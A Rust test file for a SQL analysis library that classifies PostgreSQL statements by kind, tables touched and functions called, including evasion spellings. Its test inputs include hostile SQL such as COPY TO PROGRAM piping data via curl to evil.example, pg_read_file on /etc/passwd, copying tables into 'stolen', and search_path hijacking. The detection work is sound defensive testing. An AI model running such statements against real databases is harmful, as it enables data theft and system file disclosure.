//! Table tests: SQL in, facts out, including spellings meant to slip past a text matcher.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use sluice_sql::{analyze, Lexing, SearchPath, SqlError, SqlStatement, StatementKind as K};

/// (sql, kind, read, written, functions, unbounded write)
type Case = (
    &'static str,
    K,
    &'static [&'static str],
    &'static [&'static str],
    &'static [&'static str],
    bool,
);

fn analyzed(sql: &str) -> Vec<SqlStatement> {
    analyze(sql, &SearchPath::default(), Lexing::Standard).unwrap_or_else(|e| panic!("{sql}: {e}"))
}

fn one(sql: &str) -> SqlStatement {
    let mut statements = analyzed(sql);
    assert_eq!(statements.len(), 1, "{sql}: {statements:#?}");
    statements.remove(0)
}

fn check(cases: &[Case]) {
    for (sql, kind, read, written, functions, unbounded) in cases {
        let s = one(sql);
        assert_eq!(s.kind, *kind, "{sql}: {s:#?}");
        assert_eq!(s.tables_read, *read, "{sql}: read");
        assert_eq!(s.tables_written, *written, "{sql}: written");
        assert_eq!(s.functions, *functions, "{sql}: functions");
        assert_eq!(s.unbounded_write, *unbounded, "{sql}: unbounded write");
    }
}

/// What each sort of statement reads, writes and calls.
const COVERAGE: &[Case] = &[
    ("SELECT * FROM accounts", K::Read, &["public.accounts"], &[], &[], false),
    (
        "select a.x from billing.accounts a join users u on u.id = a.uid",
        K::Read,
        &["billing.accounts", "public.users"],
        &[],
        &[],
        false,
    ),
    ("UPDATE accounts SET balance = 0 WHERE id = 1", K::Write, &[], &["public.accounts"], &[], false),
    ("UPDATE accounts SET balance = 0", K::Write, &[], &["public.accounts"], &[], true),
    ("DELETE FROM accounts", K::Write, &[], &["public.accounts"], &[], true),
    // Data-modifying CTE under a SELECT: a write, and an unbounded one; `d` is no table.
    (
        "WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d",
        K::Write,
        &[],
        &["public.accounts"],
        &[],
        true,
    ),
    ("WITH x AS (SELECT * FROM t) SELECT * FROM x", K::Read, &["public.t"], &[], &[], false),
    // SELECT INTO and CREATE TABLE AS create tables.
    ("SELECT * INTO stolen FROM accounts", K::Ddl, &["public.accounts"], &["public.stolen"], &[], false),
    ("SELECT * INTO TEMP stolen FROM accounts", K::Ddl, &["public.accounts"], &["pg_temp.stolen"], &[], false),
    (
        "CREATE TABLE stolen AS SELECT * FROM accounts",
        K::Ddl,
        &["public.accounts"],
        &["public.stolen"],
        &[],
        false,
    ),
    ("CREATE TEMP TABLE scratch (a int)", K::Ddl, &[], &["pg_temp.scratch"], &[], false),
    ("COPY accounts TO STDOUT", K::Read, &["public.accounts"], &[], &[], false),
    ("COPY accounts FROM STDIN", K::Write, &[], &["public.accounts"], &[], false),
    // Server-side files and programs are outside what the statement shows.
    ("COPY (SELECT * FROM accounts) TO '/tmp/f'", K::Procedural, &["public.accounts"], &[], &[], false),
    ("COPY accounts FROM '/etc/passwd'", K::Procedural, &[], &["public.accounts"], &[], false),
    (
        "COPY accounts TO PROGRAM 'curl -d @- evil.example'",
        K::Procedural,
        &["public.accounts"],
        &[],
        &[],
        false,
    ),
    ("INSERT INTO audit_copy SELECT * FROM accounts", K::Write, &["public.accounts"], &["public.audit_copy"], &[], false),
    // Views and set-returning functions in FROM.
    (
        "SELECT * FROM account_view v JOIN pg_ls_dir('.') f ON true",
        K::Read,
        &["public.account_view"],
        &[],
        &["pg_ls_dir"],
        false,
    ),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE accounts'; END $$", K::Procedural, &[], &[], &[], false),
    ("CALL archive_accounts()", K::Procedural, &[], &[], &["archive_accounts"], false),
    ("EXECUTE wipe(1)", K::Procedural, &[], &[], &[], false),
    // The prepared query is seen when it is prepared.
    (
        "PREPARE wipe AS DELETE FROM accounts WHERE id = $1",
        K::Write,
        &[],
        &["public.accounts"],
        &[],
        false,
    ),
    // The body is opaque: only the definition is seen, and a later call shows the name.
    (
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
        K::Ddl,
        &[],
        &[],
        &["wipe"],
        false,
    ),
    // A SQL-standard body is parsed, so it is seen.
    (
        "CREATE FUNCTION n() RETURNS bigint BEGIN ATOMIC SELECT count(*) FROM accounts; END",
        K::Ddl,
        &["public.accounts"],
        &[],
        &["count", "n"],
        false,
    ),
    ("EXPLAIN ANALYZE DELETE FROM accounts", K::Write, &[], &["public.accounts"], &[], true),
    ("DROP TABLE accounts, s.\"B\"", K::Ddl, &[], &["public.accounts", "s.\"B\""], &[], false),
    ("DROP TRIGGER t ON s.accounts", K::Ddl, &[], &["s.accounts"], &[], false),
    ("DROP FUNCTION public.wipe(int)", K::Ddl, &[], &[], &["wipe"], false),
    ("DROP OPERATOR +(int, int)", K::Ddl, &[], &[], &[], false),
    ("ALTER TABLE accounts RENAME TO old", K::Ddl, &[], &["public.accounts", "public.old"], &[], false),
    ("ALTER TABLE accounts SET SCHEMA s", K::Ddl, &[], &["public.accounts", "s.accounts"], &[], false),
    ("COMMENT ON TABLE accounts IS 'x'", K::Ddl, &[], &["public.accounts"], &[], false),
    (
        "CREATE TABLE x (LIKE y, a int REFERENCES z, b text DEFAULT pg_read_file('f'))",
        K::Ddl,
        &["public.y", "public.z"],
        &["public.x"],
        &["pg_read_file"],
        false,
    ),
    ("CREATE VIEW v AS SELECT * FROM accounts", K::Ddl, &["public.accounts"], &["public.v"], &[], false),
    ("LOAD 'evil'", K::Procedural, &[], &[], &[], false),
    ("BEGIN", K::Transaction, &[], &[], &[], false),
];

#[test]
fn statement_facts() {
    check(COVERAGE);
}

/// Spellings meant to hide what a statement does; each must be seen as PostgreSQL sees it.
const EVASIONS: &[Case] = &[
    // Comments, nested ones included, hiding keywords.
    ("/* harmless */ dElEtE /* really */ FROM accounts", K::Write, &[], &["public.accounts"], &[], true),
    ("/* /* nested */ DELETE FROM accounts */ SELECT 1", K::Read, &[], &[], &[], false),
    ("-- DELETE FROM accounts\nSELECT 1", K::Read, &[], &[], &[], false),
    ("SELECT 1 /* ; DROP TABLE t */", K::Read, &[], &[], &[], false),
    ("DeLeTe FrOm AcCoUnTs", K::Write, &[], &["public.accounts"], &[], true),
    // Quoted identifiers: case kept and made visible; quoting a lower-case name changes nothing.
    ("DELETE FROM \"accounts\"", K::Write, &[], &["public.accounts"], &[], true),
    ("SELECT * FROM \"public\".\"Accounts\"", K::Read, &["public.\"Accounts\""], &[], &[], false),
    ("SELECT * FROM \"a.b\"", K::Read, &["public.\"a.b\""], &[], &[], false),
    ("SELECT * FROM db.billing.accounts", K::Read, &["billing.accounts"], &[], &[], false),
    // Unicode escapes in identifiers and strings.
    ("DELETE FROM U&\"\\0061ccounts\"", K::Write, &[], &["public.accounts"], &[], true),
    ("SELECT * FROM U&\"d\\0061ta\"", K::Read, &["public.data"], &[], &[], false),
    ("SELECT U&'\\0044ELETE FROM accounts'", K::Read, &[], &[], &[], false),
    // Dollar quoting and strings holding statements.
    ("SELECT $tag$ ; DELETE FROM accounts; $tag$", K::Read, &[], &[], &[], false),
    ("SELECT $$; DROP TABLE accounts; $$", K::Read, &[], &[], &[], false),
    ("SELECT '; DELETE FROM accounts'", K::Read, &[], &[], &[], false),
    // Writes wrapped in CTEs and subqueries.
    (
        "WITH a AS (SELECT 1), b AS (UPDATE accounts SET x = 1 RETURNING *) SELECT * FROM a",
        K::Write,
        &[],
        &["public.accounts"],
        &[],
        true,
    ),
    (
        "SELECT * FROM (WITH d AS (DELETE FROM accounts WHERE id = 1 RETURNING *) SELECT * FROM d) s",
        K::Write,
        &[],
        &["public.accounts"],
        &[],
        false,
    ),
    (
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
        K::Read,
        &[],
        &[],
        &[],
        false,
    ),
    // CTE names only hide relations where PostgreSQL's scoping lets them.
    ("WITH accounts AS (SELECT * FROM accounts) SELECT * FROM accounts", K::Read, &["public.accounts"], &[], &[], false),
    (
        "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets",
        K::Read,
        &["public.secrets"],
        &[],
        &[],
        false,
    ),
    ("WITH \"public.secrets\" AS (SELECT 1) SELECT * FROM public.secrets", K::Read, &["public.secrets"], &[], &[], false),
    ("WITH accounts AS (SELECT 1) DELETE FROM accounts", K::Write, &[], &["public.accounts"], &[], true),
    // Functions however they are named.
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", K::Read, &[], &[], &["pg_read_file"], false),
    ("SELECT \"pg_read_file\"('x')", K::Read, &[], &[], &["pg_read_file"], false),
    ("SELECT \"PG_READ_FILE\"('x')", K::Read, &[], &[], &["\"PG_READ_FILE\""], false),
    // Attribute notation: `(x).f` is f(x) when f is no field of x.
    ("SELECT ('/etc/passwd').pg_read_file", K::Read, &[], &[], &["pg_read_file"], false),
    ("SELECT * FROM pg_ls_dir('.')", K::Read, &[], &[], &["pg_ls_dir"], false),
    ("SELECT set_config('search_path', 'evil', false)", K::Read, &[], &[], &["set_config"], false),
    // Functions in every clause.
    ("SELECT 1 LIMIT length(pg_read_file('x'))", K::Read, &[], &[], &["length", "pg_read_file"], false),
    ("SELECT * FROM accounts ORDER BY pg_read_file('x')", K::Read, &["public.accounts"], &[], &["pg_read_file"], false),
    ("SELECT ARRAY[pg_read_file('x')]", K::Read, &[], &[], &["pg_read_file"], false),
    (
        "SELECT * FROM accounts a, LATERAL (SELECT pg_read_file(a.path)) l",
        K::Read,
        &["public.accounts"],
        &[],
        &["pg_read_file"],
        false,
    ),
    (
        "UPDATE accounts SET x = 1 WHERE id = 2 RETURNING pg_read_file('x')",
        K::Write,
        &[],
        &["public.accounts"],
        &["pg_read_file"],
        false,
    ),
    ("EXECUTE wipe(pg_read_file('x'))", K::Procedural, &[], &[], &["pg_read_file"], false),
    // System catalogs resolve to pg_catalog whatever the search path.
    ("SELECT * FROM pg_authid", K::Read, &["pg_catalog.pg_authid"], &[], &[], false),
    // Short and inheritance-excluding SELECTs.
    ("TABLE accounts", K::Read, &["public.accounts"], &[], &[], false),
    ("SELECT * FROM ONLY accounts", K::Read, &["public.accounts"], &[], &[], false),
    // Locking reads are reads (they need UPDATE privilege, which the server checks).
    ("SELECT * FROM accounts FOR UPDATE", K::Read, &["public.accounts"], &[], &[], false),
    (
        "MERGE INTO accounts a USING staging s ON a.id = s.id WHEN MATCHED THEN DELETE",
        K::Write,
        &["public.staging"],
        &["public.accounts"],
        &[],
        false,
    ),
    ("TRUNCATE accounts", K::Write, &[], &["public.accounts"], &[], true),
    ("ALTER TABLE accounts ADD COLUMN c int DEFAULT nextval('s')", K::Ddl, &[], &["public.accounts"], &["nextval"], false),
    ("GRANT SELECT ON accounts TO mallory", K::Ddl, &[], &["public.accounts"], &[], false),
    ("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO mallory", K::Ddl, &[], &[], &["pg_read_file"], false),
    // Maintenance and locks act on their tables: utility, but listed as written.
    ("VACUUM accounts", K::Utility, &[], &["public.accounts"], &[], false),
    ("LOCK TABLE accounts", K::Utility, &[], &["public.accounts"], &[], false),
    ("LISTEN channel", K::Utility, &[], &[], &[], false),
    ("NOTIFY channel, 'x'", K::Utility, &[], &[], &[], false),
    (
        "CREATE RULE r AS ON INSERT TO accounts DO INSTEAD DELETE FROM audit",
        K::Ddl,
        &[],
        &["public.accounts", "public.audit"],
        &[],
        true,
    ),
    (
        "CREATE TRIGGER t BEFORE INSERT ON accounts FOR EACH ROW EXECUTE FUNCTION steal()",
        K::Ddl,
        &[],
        &["public.accounts"],
        &["steal"],
        false,
    ),
    ("DELETE FROM accounts USING users u WHERE u.id = 1", K::Write, &["public.users"], &["public.accounts"], &[], false),
    (
        "UPDATE accounts a SET x = u.x FROM users u WHERE u.id = a.id",
        K::Write,
        &["public.users"],
        &["public.accounts"],
        &[],
        false,
    ),
    (
        "INSERT INTO accounts VALUES (1) ON CONFLICT (id) DO UPDATE SET x = excluded.x",
        K::Write,
        &[],
        &["public.accounts"],
        &[],
        false,
    ),
    // Only a missing WHERE counts as unbounded; `WHERE true` is bounded by syntax.
    ("DELETE FROM accounts WHERE true", K::Write, &[], &["public.accounts"], &[], false),
    ("DELETE FROM accounts WHERE CURRENT OF c", K::Write, &[], &["public.accounts"], &[], false),
];

#[test]
fn evasions_are_seen_as_postgresql_sees_them() {
    check(EVASIONS);
}

#[test]
fn several_statements_are_split_by_the_parser_not_by_semicolons() {
    let s = analyzed("select 1; /* ; */ delete from accounts; select ';'");
    let kinds: Vec<K> = s.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, vec![K::Read, K::Write, K::Read]);
    // The parser's slice starts at the statement; the comment before it is not part of it.
    assert_eq!(s[1].text, "delete from accounts");
    assert_eq!(s[1].tables_written, vec!["public.accounts"]);
    // Constants are taken out: policy sees the statement's shape.
    assert_eq!(s[2].text, "select $1");

    let s = analyzed("SELECT 1; DROP TABLE t");
    let kinds: Vec<K> = s.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, vec![K::Read, K::Ddl]);
    assert_eq!(s[1].text, "DROP TABLE t");
    assert_eq!(s[1].tables_written, vec!["public.t"]);
}

#[test]
fn cte_names_do_not_leak_into_the_next_statement() {
    let s = analyzed("WITH t AS (SELECT 1) SELECT * FROM t; SELECT * FROM t");
    assert!(s[0].tables_read.is_empty());
    assert_eq!(s[1].tables_read, vec!["public.t"]);
}

#[test]
fn a_bad_statement_rejects_the_whole_string_with_the_parser_message() {
    let deep_subqueries = format!("SELECT {}1{}", "(SELECT ".repeat(20), ")".repeat(20));
    let long_chain = format!("SELECT {}1", "1 + ".repeat(50));
    let very_long_chain = format!("SELECT {}1", "1 + ".repeat(1000));
    let cases: [(&str, &str); 8] = [
        (
            "select 1; this is not sql; delete from accounts",
            "syntax error at or near \"this\"",
        ),
        ("SELECT * FORM accounts", "syntax error at or near \"FORM\""),
        // A DECLARE cursor over a DELETE is not SQL.
        (
            "DECLARE c CURSOR FOR DELETE FROM accounts",
            "syntax error at or near \"DELETE\"",
        ),
        ("SELECT 'unterminated", "unterminated quoted string"),
        ("SELECT 1\0; DROP TABLE t", "zero byte"),
        // Deeper than the parse tree may nest on its way to the analysis.
        (&deep_subqueries, "nested too deeply"),
        (&long_chain, "nested too deeply"),
        (&very_long_chain, "stack depth limit exceeded"),
    ];
    for (sql, message) in cases {
        let err = analyze(sql, &SearchPath::default(), Lexing::Standard).unwrap_err();
        assert!(
            matches!(&err, SqlError::Rejected(m) if m.message.contains(message)),
            "{sql}: {err}"
        );
        assert!(err.to_string().contains(message), "{err}");
    }
}

#[test]
fn empty_and_comment_only_strings_have_no_statements() {
    assert!(analyzed("").is_empty());
    assert!(analyzed("  -- nothing\n /* here */ ").is_empty());
    assert!(analyzed(";;").is_empty());
}

#[test]
fn session_changes_are_visible() {
    let cases = [
        ("SET ROLE postgres", "role", Some("postgres")),
        (
            "set session authorization 'admin'",
            "session_authorization",
            Some("admin"),
        ),
        (
            "SET SESSION AUTHORIZATION DEFAULT",
            "session_authorization",
            None,
        ),
        ("RESET ROLE", "role", None),
        // The value as PostgreSQL stores it: one quoted identifier per schema.
        (
            "SET search_path TO evil, public",
            "search_path",
            Some("evil, public"),
        ),
        (
            "SET search_path TO a, \"B\", 'c,d'",
            "search_path",
            Some("a, \"B\", \"c,d\""),
        ),
        (
            "SET \"SEARCH_PATH\" = \"$user\"",
            "search_path",
            Some("\"$user\""),
        ),
        ("SET LOCAL search_path = evil", "search_path", Some("evil")),
        ("SET search_path TO DEFAULT", "search_path", None),
        ("RESET ALL", "all", None),
        ("SET statement_timeout = 0", "statement_timeout", Some("0")),
        (
            "SET TIME ZONE INTERVAL '+01:00' HOUR TO MINUTE",
            "timezone",
            Some("+01:00"),
        ),
    ];
    for (sql, setting, value) in cases {
        let s = one(sql);
        assert_eq!(s.kind, K::SessionChange, "{sql}");
        let change = s.session_change.as_ref().unwrap_or_else(|| panic!("{sql}"));
        assert_eq!(change.setting, setting, "{sql}");
        assert_eq!(change.value.as_deref(), value, "{sql}");
    }
    // DISCARD ALL resets every setting, but is no SET.
    let s = one("DISCARD ALL");
    assert_eq!(s.kind, K::Utility);
    assert_eq!(s.session_change.map(|c| c.setting).as_deref(), Some("all"));
    // A SET that configures something other than this session is not a session change.
    for sql in [
        "ALTER ROLE mallory SET search_path = evil",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = evil AS 'SELECT 1'",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, K::Ddl, "{sql}");
        assert_eq!(s.session_change, None, "{sql}");
    }
}

#[test]
fn search_path_values_set_by_statements_read_back() {
    let s = one("SET search_path TO a, \"B\", 'c,d', \"$user\"");
    let value = s.session_change.and_then(|c| c.value).unwrap_or_default();
    let path = SearchPath::parse(&value).unwrap();
    assert_eq!(path.schemas(), ["a", "\"B\"", "\"c,d\"", "$user"]);
    assert_eq!(SearchPath::parse(&path.to_string()), Ok(path));
}

#[test]
fn search_path_parses_like_postgresql() {
    let cases: &[(&str, &[&str])] = &[
        ("\"$user\", public", &["$user", "public"]),
        ("$USER,public", &["$user", "public"]),
        ("  Sales ,  \"Sales\"  ", &["sales", "\"Sales\""]),
        (
            "\"a,b\", \"say \"\"hi\"\"\"",
            &["\"a,b\"", "\"say \"\"hi\"\"\""],
        ),
        ("", &[]),
        ("   ", &[]),
        ("\"\"", &["\"\""]),
    ];
    for (value, schemas) in cases {
        let path = SearchPath::parse(value).unwrap_or_else(|e| panic!("{value}: {e}"));
        assert_eq!(path.schemas(), *schemas, "{value}");
    }
    for bad in ["a,", ",a", "a b", "\"open", "a,,b"] {
        assert!(
            matches!(SearchPath::parse(bad), Err(SqlError::SearchPath(_))),
            "{bad}"
        );
    }
    assert_eq!(SearchPath::default().schemas(), ["$user", "public"]);
    assert_eq!(SearchPath::default().to_string(), "$user, public");
    assert_eq!(
        SearchPath::default(),
        SearchPath::parse("\"$user\", public").unwrap()
    );
}

#[test]
fn unqualified_names_resolve_against_the_search_path() {
    // (search_path, sql, read)
    let cases: &[(&str, &str, &[&str])] = &[
        ("\"$user\", public", "SELECT * FROM t", &["public.t"]),
        ("\"$user\", sales, public", "SELECT * FROM t", &["sales.t"]),
        ("\"Sales\"", "SELECT * FROM t", &["\"Sales\".t"]),
        // Schemas whose relations the gateway cannot know are passed over.
        (
            "pg_catalog, pg_temp, public",
            "SELECT * FROM t",
            &["public.t"],
        ),
        // Qualified names and system catalogs do not depend on the path.
        (
            "sales",
            "SELECT * FROM public.t, pg_class",
            &["pg_catalog.pg_class", "public.t"],
        ),
        // No usable schema: a name no real schema has.
        ("", "SELECT * FROM t", &["pg_unresolved.t"]),
        ("\"$user\"", "SELECT * FROM t", &["pg_unresolved.t"]),
    ];
    for (path, sql, read) in cases {
        let path = SearchPath::parse(path).unwrap_or_else(|e| panic!("{path}: {e}"));
        let s = analyze(sql, &path, Lexing::Standard).unwrap_or_else(|e| panic!("{sql}: {e}"));
        assert_eq!(s[0].tables_read, *read, "{sql} with {path}");
    }
    assert_eq!(sluice_sql::UNRESOLVED_SCHEMA, "pg_unresolved");
}

#[test]
fn parameter_count_is_the_highest_parameter_number() {
    let cases = [
        ("SELECT 1", 0),
        ("SELECT * FROM t WHERE a = $1 AND b = $12", 12),
        ("INSERT INTO t VALUES ($3, $1)", 3),
        ("SELECT * FROM t LIMIT $2", 2),
        // Inside PREPARE the parameters are the prepared statement's, not this statement's.
        ("PREPARE p(int) AS SELECT * FROM t WHERE a = $1", 0),
        ("EXECUTE p($1)", 1),
    ];
    for (sql, count) in cases {
        assert_eq!(one(sql).parameter_count, count, "{sql}");
    }
}

#[test]
fn pgbench_statements() {
    let update = one("UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;");
    assert_eq!(
        (update.kind, update.tables_written, update.parameter_count),
        (K::Write, vec!["public.pgbench_accounts".to_owned()], 2)
    );
    let insert = one("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) \
         VALUES ($3, $2, $1, $4, CURRENT_TIMESTAMP);");
    assert_eq!(insert.parameter_count, 4);
    assert!(insert.functions.is_empty());
    assert_eq!(insert.text, insert.text.trim_end_matches(';'));
}

#[test]
fn commands_are_named_like_postgresql_names_them() {
    let names: Vec<String> = [
        "SELECT 1",
        "CREATE TABLE t AS SELECT 1",
        "create table t (a int)",
        "VACUUM",
        "EXPLAIN SELECT 1",
        "SET search_path TO public",
        "RESET ALL",
        "SHOW search_path",
        "BEGIN",
        "COMMIT",
        "ROLLBACK TO SAVEPOINT s",
        "REVOKE ALL ON t FROM PUBLIC",
        "CREATE INDEX ON t (a)",
    ]
    .iter()
    .map(|sql| one(sql).command)
    .collect();
    assert_eq!(
        names,
        vec![
            "SELECT",
            "CREATE TABLE AS",
            "CREATE TABLE",
            "VACUUM",
            "EXPLAIN",
            "SET",
            "RESET",
            "SHOW",
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "REVOKE",
            "CREATE INDEX"
        ]
    );
}

#[test]
fn strings_differing_in_constants_share_a_shape() {
    let shape = |sql| sluice_sql::normalize(sql);
    assert_eq!(
        shape("SELECT * FROM t WHERE id = 5 AND name = 'x'"),
        Ok("SELECT * FROM t WHERE id = $1 AND name = $2".to_owned())
    );
    assert_eq!(
        shape("DELETE FROM t WHERE id = 7"),
        shape("DELETE FROM t WHERE id = 8")
    );
    // Written parameters would be confused with replaced constants.
    assert_eq!(shape("SELECT $1"), Err(SqlError::HasParameters));
    assert!(matches!(shape("SELECT 'open"), Err(SqlError::Rejected(_))));
    // Same shape, same facts (but for the text and a setting's value).
    let facts = |sql| {
        let s = one(sql);
        (
            s.kind,
            s.tables_read,
            s.tables_written,
            s.functions,
            s.unbounded_write,
            s.parameter_count,
        )
    };
    assert_eq!(
        facts("SELECT pg_read_file('/etc/passwd') FROM t LIMIT 1"),
        facts("SELECT pg_read_file('/tmp/x') FROM t LIMIT 2")
    );
}
